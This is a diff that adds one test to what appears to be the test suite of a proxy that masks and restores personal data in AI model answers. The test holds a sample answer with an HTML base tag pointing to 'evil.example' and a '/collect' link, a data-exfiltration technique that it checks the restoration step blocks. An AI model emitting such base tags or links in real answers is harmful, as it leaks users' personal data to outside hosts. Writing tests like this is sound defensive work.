@@ -197,6 +197,17 @@ test('a link that is divided over texts which a client joins is one link', async
   t.deepEqual([...conversation.kept.counts], [['EMAIL', 1]], 'what stays is counted once');
 });
 
+test('a base behind a link of a whole answer is read before it, in the same text and in another', async (t) => {
+  const { conversation, written } = await conversed([]);
+  const link = written('<a href="/collect?q=M!">x</a> M!');
+  const base = '<base href="https://evil.example/">';
+  for (const texts of [[`${link} ${base}`], [link, base], [base.replace('base', 'BASE'), link]]) {
+    const body = JSON.stringify({ content: texts.map((text) => ({ type: 'text', text })) });
+    const shown = restoredBody({ shape: messagesTextMap.answer }, Buffer.from(body), conversation).toString();
+    t.true(shown.includes(written('q=M!')) && shown.includes(`</a> ${mail}`), shown);
+  }
+});
+
 test('an address of a search stays as it was found, and what is no address in it is restored', async (t) => {
   const { conversation, written, restored } = await conversed([], {}, ['crm.example']);
   const url = 'https://crm.example/M!';
